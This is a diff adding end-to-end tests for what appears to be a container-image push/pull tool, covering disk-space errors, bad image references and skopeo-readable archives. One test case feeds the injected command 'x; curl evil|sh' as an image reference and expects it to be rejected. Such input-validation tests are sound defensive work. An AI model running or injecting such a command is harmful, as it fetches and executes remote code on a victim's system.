@@ -258,6 +258,40 @@ class EndToEnd(unittest.TestCase):
         self.assertEqual((root / "usr/bin/tool").stat().st_mode & 0o7777, 0o4755)
         self.assertEqual(os.readlink(root / "boot/vmlinuz"), "/boot/vmlinuz-6.1.0-1")
 
+    def test_a_disk_too_small_is_told_of_with_numbers(self):
+        layout = self.work / "layout"
+        test_image.write_layout(str(layout), [test_image.layer({"data": os.urandom(8 << 20)})])
+        self.program(["push", f"oci:{layout}", f"{self.host}/demo/large:1", "--credentials",
+                      self.config], store=self.work / "other", check=True)
+        self.store.mkdir()
+        small = ["unshare", "--mount", "sh", "-c",
+                 'mount -t tmpfs -o size=4m tmpfs "$0" && exec "$@"', self.store]
+
+        result = self.program(["pull", f"{self.host}/demo/large:1", "--credentials", self.config],
+                              store=self.store, prefix=small)
+
+        self.assertEqual(result.returncode, 8, result.stderr)
+        self.assertRegex(result.stderr, r"its layers need 8\.0 MiB more, [0-9.]+ MiB are free")
+
+    def test_what_is_not_there_is_an_error_of_the_registry(self):
+        cases = {f"{self.host}/demo/none:1": (4, "demo/none"), "localhost:1/demo/image:1": (4, "localhost:1"),
+                 "x; curl evil|sh": (2, "not an image reference")}
+        for reference, (status, words) in cases.items():
+            begin = time.monotonic()
+            result = self.program(["pull", reference, "--credentials", self.config],
+                                  store=self.store)
+            self.assertEqual(result.returncode, status, result.stderr)
+            self.assertIn(words, result.stderr)
+            self.assertLess(time.monotonic() - begin, 12)
+
+    def test_an_image_archive_is_one_that_skopeo_reads(self):
+        self.build(self.manifest(), "--image-archive", check=True)
+
+        subprocess.run(["sha256sum", "-c", "--quiet", "demo.sha256"], cwd=self.out, check=True)
+        found = subprocess.run(["skopeo", "inspect", f"docker-archive:{self.out / 'demo.tar'}"],
+                               check=True, capture_output=True, timeout=60).stdout
+        self.assertEqual(len(json.loads(found)["Layers"]), 3)
+
     def test_memory_does_not_grow_with_the_layer(self):
         layout = self.work / "layout"
         subprocess.run([sys.executable, test_image.__file__, layout, "1024"], check=True)
